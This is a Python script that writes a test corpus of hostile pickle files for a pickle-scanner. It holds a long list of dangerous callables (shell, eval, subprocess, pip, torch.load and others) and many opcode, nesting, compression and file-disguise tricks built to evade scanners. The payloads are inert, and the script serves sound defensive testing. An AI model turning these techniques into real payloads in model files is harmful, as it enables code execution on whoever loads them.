"""Writes the hostile corpus: pickles that would run something, in every way that beat a scanner.

    python -m scripts.corpora.hostile FOLDER

Built byte by byte with the standard library; nothing here is ever loaded. The payloads are
inert all the same: ``true`` and ``print``.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

Sample = tuple[str, bytes]

GADGETS: tuple[tuple[str, str, str], ...] = (
    ("posix", "system", "true"), ("nt", "system", "true"), ("os", "system", "true"), ("os", "popen", "true"),
    ("os", "execvp", "true"), ("os", "spawnlp", "true"), ("os", "posix_spawn", "true"), ("subprocess", "Popen", "true"),
    ("subprocess", "call", "true"), ("subprocess", "check_output", "true"), ("subprocess", "getoutput", "true"),
    ("_posixsubprocess", "fork_exec", "true"), ("pty", "spawn", "true"), ("commands", "getoutput", "true"),
    ("builtins", "eval", "print(1)"), ("builtins", "exec", "print(1)"), ("builtins", "compile", "print(1)"),
    ("__builtin__", "eval", "print(1)"), ("__builtin__", "execfile", "x.py"), ("builtins", "__import__", "this"),
    ("builtins", "open", "x"), ("builtins", "breakpoint", "x"), ("builtins", "getattr", "x"), ("builtins", "map", "x"),
    ("importlib", "import_module", "this"), ("importlib._bootstrap", "_gcd_import", "this"), ("imp", "load_source", "x"),
    ("runpy", "run_path", "x.py"), ("runpy", "_run_code", "x"), ("pkgutil", "resolve_name", "os:system"),
    ("pydoc", "locate", "os.system"), ("pydoc", "pipepager", "x"), ("operator", "attrgetter", "system"),
    ("operator", "methodcaller", "system"), ("_operator", "methodcaller", "system"), ("pip", "main", "install"),
    ("pip._internal", "main", "install"), ("pip._internal.cli.main", "main", "install"), ("ensurepip", "_run_pip", "x"),
    ("distutils.file_util", "write_file", "x"), ("setuptools", "setup", "x"), ("ctypes", "CDLL", "x.so"),
    ("ctypes.util", "find_library", "c"), ("_ctypes", "dlopen", "x.so"), ("cProfile", "run", "print(1)"),
    ("cProfile", "runctx", "print(1)"), ("profile", "Profile.run", "print(1)"), ("trace", "Trace.run", "print(1)"),
    ("timeit", "timeit", "print(1)"), ("doctest", "debug_script", "print(1)"), ("bdb", "Bdb.run", "print(1)"),
    ("pdb", "run", "print(1)"), ("code", "InteractiveInterpreter.runcode", "x"), ("codeop", "compile_command", "x"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand", "x"), ("idlelib.run", "Executive.runcode", "x"),
    ("idlelib.autocomplete", "AutoComplete.get_entity", "x"), ("idlelib.calltip", "get_entity", "x"),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", "x"), ("idlelib.calltip", "Calltip.fetch_tip", "x"),
    ("lib2to3.pgen2.grammar", "Grammar.loads", "x"), ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "x"),
    ("uuid", "_get_command_stdout", "true"), ("imaplib", "IMAP4_stream", "true"), ("_pyrepl.pager", "pipe_pager", "x"),
    ("_osx_support", "_read_output", "true"), ("_aix_support", "_read_cmd_output", "true"),
    ("test.support.script_helper", "assert_python_ok", "-c"), ("asyncio.unix_events", "_UnixSubprocessTransport._start", "x"),
    ("asyncio", "create_subprocess_shell", "true"), ("multiprocessing", "Process", "x"), ("threading", "Thread", "x"),
    ("concurrent.futures", "ThreadPoolExecutor", "x"), ("atexit", "register", "x"), ("webbrowser", "open", "http://example"),
    ("socket", "create_connection", "x"), ("urllib.request", "urlopen", "http://example"), ("http.client", "HTTPSConnection", "x"),
    ("requests", "get", "http://example"), ("smtplib", "SMTP", "x"), ("ftplib", "FTP", "x"), ("shutil", "rmtree", "x"),
    ("shutil", "copyfile", "x"), ("tempfile", "_TemporaryFileCloser", "x"), ("pathlib", "Path.unlink", "x"),
    ("io", "FileIO", "x"), ("codecs", "open", "x"), ("logging", "FileHandler", "x"), ("logging.config", "_resolve", "os.system"),
    ("sys", "exit", "0"), ("signal", "raise_signal", "9"), ("copyreg", "add_extension", "x"), ("copy", "deepcopy", "x"),
    ("pickle", "loads", "x"), ("_pickle", "loads", "x"), ("cPickle", "loads", "x"), ("shelve", "open", "x"),
    ("marshal", "loads", "x"), ("types", "CodeType", "x"), ("types", "FunctionType", "x"),
    ("cloudpickle.cloudpickle", "_make_function", "x"), ("cloudpickle.cloudpickle", "subimport", "os"),
    ("dill._dill", "_create_function", "x"), ("dill._dill", "_eval_repr", "x"), ("dill", "loads", "x"),
    ("joblib", "load", "x"), ("joblib.numpy_pickle", "load", "x"), ("pandas", "read_pickle", "x"), ("pandas", "eval", "x"),
    ("pandas.io.pickle", "read_pickle", "x"), ("numpy", "load", "x"), ("numpy", "fromfile", "x"),
    ("numpy.f2py.crackfortran", "getlincoef", "x"), ("numpy.f2py.crackfortran", "_eval_length", "x"),
    ("numpy.testing._private.utils", "runstring", "x"), ("numpy.distutils.exec_command", "exec_command", "x"),
    ("torch", "load", "x"), ("torch.hub", "load", "x"), ("torch.jit", "load", "x"), ("torch.serialization", "load", "x"),
    ("torch.utils.cpp_extension", "load", "x"), ("torch.utils.bottleneck.__main__", "run_cprofile", "x"),
    ("torch.utils.collect_env", "run", "true"), ("torch.utils._config_module", "ConfigModule.load_config", "x"),
    ("torch._dynamo.guards", "GuardBuilder.get", "x"), ("torch._inductor.codecache", "compile_file", "x"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "x"),
    ("torch.fx.graph_module", "reduce_graph_module", "x"), ("torch.package", "PackageImporter", "x"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "x"), ("torch.distributed.rpc", "rpc_sync", "x"),
    ("sympy", "sympify", "x"), ("sympy.core.sympify", "sympify", "x"), ("keras.models", "load_model", "x"),
    ("tensorflow", "io.read_file", "x"), ("yaml", "unsafe_load", "x"), ("jsonpickle", "decode", "x"),
    ("sqlite3", "connect", "x"), ("zipimport", "zipimporter", "x"), ("site", "execsitecustomize", "x"),
    ("unittest.mock", "_importer", "os"), ("collections", "namedtuple", "x"), ("typing", "get_type_hints", "x"),
    ("functools", "reduce", "x"), ("weakref", "finalize", "x"), ("faulthandler", "_sigsegv", "x"),
    ("nobody.knows", "this_gadget", "x"), ("__main__", "Payload", "x"), ("collections", "OrderedDict.fromkeys", "x"),
    ("numpy", "core._internal.sys.modules", "x"), ("logging", "os.system", "true"), ("torch.nn", "functional.torch.load", "x"),
    ("numpy.core.multiarray", "os.system", "true"), ("collections", "__builtins__", "x"), ("builtins", "__dict__", "x"),
)  # fmt: skip


def _text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def _short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def by_global(module: str, name: str, argument: str) -> bytes:
    """Protocol 0: GLOBAL, REDUCE."""
    return f"c{module}\n{name}\n(V{argument}\ntR.".encode()


def by_stack(module: str, name: str, argument: str) -> bytes:
    """Protocol 4: STACK_GLOBAL, REDUCE."""
    return b"\x80\x04" + _short(module) + _short(name) + b"\x93" + _short(argument) + b"\x85R."


def by_inst(module: str, name: str, argument: str) -> bytes:
    """INST."""
    return f"(V{argument}\ni{module}\n{name}\n.".encode()


def by_object(module: str, name: str, argument: str) -> bytes:
    """OBJ, whose result is thrown away."""
    return b"(" + f"c{module}\n{name}\n".encode() + _text(argument) + b"o0N."


def by_new(module: str, name: str, argument: str) -> bytes:
    """NEWOBJ."""
    return b"\x80\x02" + f"c{module}\n{name}\n".encode() + _text(argument) + b"\x85\x81."


def by_new_keywords(module: str, name: str, argument: str) -> bytes:
    """NEWOBJ_EX."""
    return b"\x80\x04" + f"c{module}\n{name}\n".encode() + _short(argument) + b"\x85}\x92."


def by_memo(module: str, name: str, argument: str) -> bytes:
    """Names through mixed memo opcodes: PUT stores the top of the stack, not the last literal."""
    return (
        b"\x80\x04"
        + _short(module)
        + b"\x94q\x07"
        + _short(name)
        + b"p300\n0h\x07g300\n\x93"
        + _short(argument)
        + b"\x85R."
    )


def by_duplicate(module: str, name: str, argument: str) -> bytes:
    """Names through DUP, POP and a tuple in between."""
    return (
        b"\x80\x04"
        + _short("decoy")
        + b"0"
        + _short(module)
        + b"20"
        + _short(name)
        + b"\x93"
        + _short(argument)
        + b"\x85R0]."
    )


BUILDERS = {
    "global": by_global, "stack": by_stack, "inst": by_inst, "object": by_object, "new": by_new,
    "new-keywords": by_new_keywords, "memo": by_memo, "duplicate": by_duplicate,
}  # fmt: skip


def gadgets() -> Iterator[Sample]:
    """Every gadget, each with two ways of calling it."""
    names = list(BUILDERS)
    for index, (module, name, argument) in enumerate(GADGETS):
        for builder in (names[index % len(names)], names[(index + 1) % len(names)]):
            yield f"gadget/{module}.{name}.{builder}.pkl", BUILDERS[builder](module, name, argument)


def builders() -> Iterator[Sample]:
    """One gadget in every way of calling it."""
    for name, build in BUILDERS.items():
        yield f"opcode/{name}.pkl", build("posix", "system", "true")


def structures() -> Iterator[Sample]:
    """Attacks on the scanner's model of the machine rather than on its list of names."""
    call = by_global("posix", "system", "true")
    inert = pickle.dumps({"weights": [1.0, 2.0]}, 4)
    yield "structure/second-stream.pkl", inert + call
    yield "structure/third-stream.pkl", inert * 2 + call
    yield "structure/broken-tail.pkl", call[:-1] + b"\xff\xff\xff"
    yield "structure/truncated.pkl", call[:-1]
    yield "structure/unknown-memo.pkl", call[:-1] + b"g99\n."
    yield "structure/import-only.pkl", b"cposix\nsystem\n."
    yield "structure/popped.pkl", b"\x80\x04" + call[:-1] + b"0N."
    yield "structure/type-confusion.pkl", b"\x80\x04K\x01" + _short("system") + b"\x93."
    yield "structure/extension.pkl", b"\x80\x02\x82\x01)R."
    yield "structure/extension-wide.pkl", b"\x80\x02\x84\x01\x00\x00\x00)R."
    yield (
        "structure/build-on-class.pkl",
        b"\x80\x02ccollections\nOrderedDict\n}" + _text("update") + b"cbuiltins\nlen\nsb.",
    )
    yield (
        "structure/set-state.pkl",
        b"\x80\x02cargparse\nNamespace\n)\x81}" + _text("__setstate__") + b"cbuiltins\nlen\nsb}b.",
    )
    yield "structure/item-on-global.pkl", b"\x80\x02cbuiltins\n__dict__\n" + _text("x") + b"K\x01s."
    yield "structure/call-a-result.pkl", b"cbuiltins\ngetattr\n(cbuiltins\nstr\nVmro\ntR(tR."
    yield (
        "structure/computed-module.pkl",
        b"\x80\x04cbuiltins\nstr\n"
        + _short("posix")
        + b"\x85R"
        + _short("system")
        + b"\x93"
        + _short("true")
        + b"\x85R.",
    )
    yield "structure/persistent-callee.pkl", b"\x80\x02" + _text("callable") + b"Q(VX\ntR."
    yield "structure/reconstructor.pkl", b"ccopyreg\n_reconstructor\n(csubprocess\nPopen\ncbuiltins\nobject\nNtR."
    yield "structure/partial.pkl", b"cfunctools\npartial\n(cposix\nsystem\nVtrue\ntR."
    yield "structure/default-factory.pkl", b"ccollections\ndefaultdict\n(cposix\ngetcwd\ntR."
    yield (
        "structure/rebuild-from-type.pkl",
        b"ctorch._tensor\n_rebuild_from_type_v2\n(cposix\nsystem\ncbuiltins\nint\n(Vtrue\ntNtR.",
    )
    yield "structure/generator-constructor.pkl", b"cnumpy.random._pickle\n__generator_ctor\n(Vtrue\ncposix\nsystem\ntR."
    yield "structure/ufunc-reconstruct.pkl", b"cnumpy.core\n_ufunc_reconstruct\n(Vos\nVsystem\ntR."
    yield "structure/new-class.pkl", b"cbuiltins\ntype\n(VX\n(t(dtR."
    yield "structure/codec.pkl", b"c_codecs\nencode\n(Vtrue\nVzlib\ntR."
    yield (
        "structure/distribution.pkl",
        (
            b"\x80\x02cscipy.stats._continuous_distns\nnorm_gen\n)\x81}"
            + _text("_parse_arg_template")
            + _text("print(1)")
            + b"sb."
        ),
    )
    yield "structure/distribution-pairs.pkl", (
        b"\x80\x02cscipy.stats._continuous_distns\nnorm_gen\n)\x81"
        + _text("_parse_arg_template") + _text("print(1)") + b"\x86\x85b."
    )  # fmt: skip
    yield (
        "structure/booster-address.pkl",
        b"\x80\x02cxgboost.core\nBooster\n)\x81}" + _text("handle") + b"J\x41\x41\x41\x41sb.",
    )
    yield "structure/attribute.pkl", b"cbuiltins\ngetattr\n(cnumpy\nndarray\nV__class__\ntR."
    yield "structure/deep.pkl", b"\x80\x02" + b"(" * 3000 + call[:-1] + b"t" * 3000 + b"."
    yield "structure/padded.pkl", b"\x80\x02" + b"N0" * 20000 + call


def nested() -> Iterator[Sample]:
    """A second pickle in a constant of the first."""
    inner = by_stack("posix", "system", "true")
    encodings = {
        "raw": inner, "zlib": zlib.compress(inner), "gzip": gzip.compress(inner), "base64": base64.b64encode(inner),
        "hex": inner.hex().encode(), "bz2": bz2.compress(inner), "xz": lzma.compress(inner),
    }  # fmt: skip
    for name, data in encodings.items():
        yield f"nested/bytes-{name}.pkl", pickle.dumps({"state": data}, 4)
        yield f"nested/text-{name}.pkl", pickle.dumps({"state": data.decode("latin-1")}, 4)
    yield (
        "nested/storage.pkl",
        b"\x80\x04ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R.",
    )
    yield "nested/loads.pkl", b"\x80\x04c_pickle\nloads\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."
    yield "nested/twice.pkl", pickle.dumps({"a": pickle.dumps({"b": inner})})


def wrapped() -> Iterator[Sample]:
    """The same pickle in every container that a loader opens by itself."""
    inner = by_global("posix", "system", "true")
    modern = by_stack("posix", "system", "true")
    for name, compress in {
        "gzip": gzip.compress,
        "bz2": bz2.compress,
        "xz": lzma.compress,
        "zlib": zlib.compress,
    }.items():
        yield f"wrapped/{name}.joblib", compress(inner)
        yield f"wrapped/{name}-modern.pkl", compress(modern)
    yield "wrapped/lzma.joblib", lzma.compress(inner, format=lzma.FORMAT_ALONE)
    yield "wrapped/twice.pkl.gz", gzip.compress(gzip.compress(inner))
    for member in ("archive/data.pkl", "data.bin", "no-extension", "a/b/c/d.txt"):
        yield f"wrapped/zip-{member.replace('/', '-')}.pt", _zip({member: inner, "archive/version": b"3\n"})
    yield "wrapped/zip-in-zip.pt", _zip({"inner.zip": _zip({"data.pkl": inner})})
    yield "wrapped/prefixed.pt", b"prefix" * 10 + _zip({"archive/data.pkl": inner})
    yield "wrapped/pickle-then-zip.pt", inner + _zip({"archive/data.pkl": pickle.dumps({})})
    yield "wrapped/archive.tar", _tar({"pickle": inner})
    yield "wrapped/archive.tar.gz", gzip.compress(_tar({"model.pkl": inner}))
    yield "wrapped/objects.npy", _npy(inner)
    yield "wrapped/objects.npz", _zip({"a.npy": _npy(modern)})
    magic = [pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2), pickle.dumps({"little_endian": True}, 2)]
    yield "wrapped/legacy.pt", b"".join([*magic, inner, pickle.dumps([], 2)])
    yield "wrapped/legacy-magic.pt", inner + b"".join(magic[1:])
    yield "wrapped/named-safetensors.safetensors", inner
    yield "wrapped/named-image.png", modern


def _zip(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return file.getvalue()


def _tar(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, data in members.items():
            header = tarfile.TarInfo(name)
            header.size = len(data)
            archive.addfile(header, io.BytesIO(data))
    return file.getvalue()


def _npy(data: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def samples() -> Iterator[Sample]:
    """Every sample: its name, which is a path, and its bytes."""
    for make in (gadgets, builders, structures, nested, wrapped):
        yield from make()


def write_all(folder: Path) -> int:
    """Write the corpus; returns how many files it has."""
    count = 0
    for name, data in samples():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        count += 1
    return count


if __name__ == "__main__":
    print(write_all(Path(sys.argv[1])), "files")
